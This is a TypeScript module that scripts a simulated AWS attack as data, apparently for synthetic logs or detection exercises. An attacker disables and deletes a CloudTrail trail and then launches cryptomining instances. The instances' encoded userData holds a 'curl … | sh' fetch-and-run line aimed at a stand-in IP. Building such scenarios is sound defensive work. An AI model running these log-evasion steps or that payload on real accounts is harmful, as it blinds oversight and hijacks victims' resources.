import { HOME, hexId, inRole, OTHER, REGION, SECOND, SECOND_HOSTILE, SECOND_USER } from './cast.ts'
import { deniedByGuard } from './refusals.ts'
import type { Act } from './script.ts'

const WHO = `arn:aws:iam::${HOME}:user/${SECOND_USER}`

/** Logging put out, and machines started. */
export function damage(begins: number, trailGuardArn: string): readonly Act[] {
  return [...tampering(begins, trailGuardArn), ...mining()]
}

function tampering(begins: number, trailGuardArn: string): Act[] {
  const role = inRole(begins + 2700)
  const common = { phase: 'tampering', region: REGION } as const
  const trail = `arn:aws:cloudtrail:${REGION}:${OTHER}:trail/data-trail`
  const selectors = [
    {
      readWriteType: 'WriteOnly',
      includeManagementEvents: false,
      dataResources: [],
      excludeManagementEventSources: [],
    },
  ]
  return [
    {
      ...common,
      hand: SECOND,
      at: 2402,
      what: 'Tries to stop the trail of the organisation, and is refused by a guard rail.',
      call: 'cloudtrail:StopLogging',
      error: deniedByGuard(
        WHO,
        'cloudtrail:StopLogging',
        `arn:aws:cloudtrail:${REGION}:${HOME}:trail/org-trail`,
        trailGuardArn,
      ),
      readOnly: false,
    },
    {
      ...common,
      hand: role,
      at: 2830,
      what: 'Looks for trails in prod-data.',
      call: 'cloudtrail:DescribeTrails',
      request: { trailNameList: [] },
    },
    {
      ...common,
      hand: role,
      at: 2858,
      what: 'Takes management events out of the trail.',
      call: 'cloudtrail:PutEventSelectors',
      request: { trailName: 'data-trail', eventSelectors: selectors },
      response: { trailARN: trail, eventSelectors: selectors },
    },
    {
      ...common,
      hand: role,
      at: 2891,
      what: 'Stops the trail.',
      call: 'cloudtrail:StopLogging',
      request: { name: trail },
    },
    {
      ...common,
      hand: role,
      at: 2904,
      what: 'Deletes the trail.',
      call: 'cloudtrail:DeleteTrail',
      request: { name: trail },
    },
  ]
}

/** Machines in a Region where nobody works. */
function mining(): Act[] {
  const region = 'ap-southeast-2'
  const common = { phase: 'mining', hand: SECOND_HOSTILE, region, call: 'ec2:RunInstances' } as const
  const request = (instanceType: string, maxCount: number) => ({
    instancesSet: { items: [{ imageId: 'ami-0b1c9d2e8f7a6b5c4', minCount: 1, maxCount }] },
    userData: 'IyEvYmluL3NoCmN1cmwgaHR0cHM6Ly8yMDMuMC4xMTMuNjYveCB8IHNo',
    instanceType,
    blockDeviceMapping: {},
    monitoring: { enabled: false },
    disableApiTermination: true,
  })
  const message = `You have requested more vCPU capacity than your current vCPU limit of 0 allows for the instance bucket that the specified instance type belongs to.`
  return [
    {
      ...common,
      at: 5402,
      what: 'Fails to start graphics machines.',
      request: request('p4d.24xlarge', 8),
      error: { code: 'Client.VcpuLimitExceeded', message },
    },
    {
      ...common,
      at: 5461,
      what: 'Starts four machines.',
      request: request('c7i.8xlarge', 4),
      response: {
        requestId: hexId('run', 32),
        reservationId: `r-0${hexId('reservation', 16)}`,
        ownerId: HOME,
        instancesSet: {
          items: Array.from({ length: 4 }, (_, at) => ({
            instanceId: `i-0${hexId(`miner ${at}`, 16)}`,
            imageId: 'ami-0b1c9d2e8f7a6b5c4',
            instanceType: 'c7i.8xlarge',
            instanceState: { code: 0, name: 'pending' },
          })),
        },
      },
    },
  ]
}
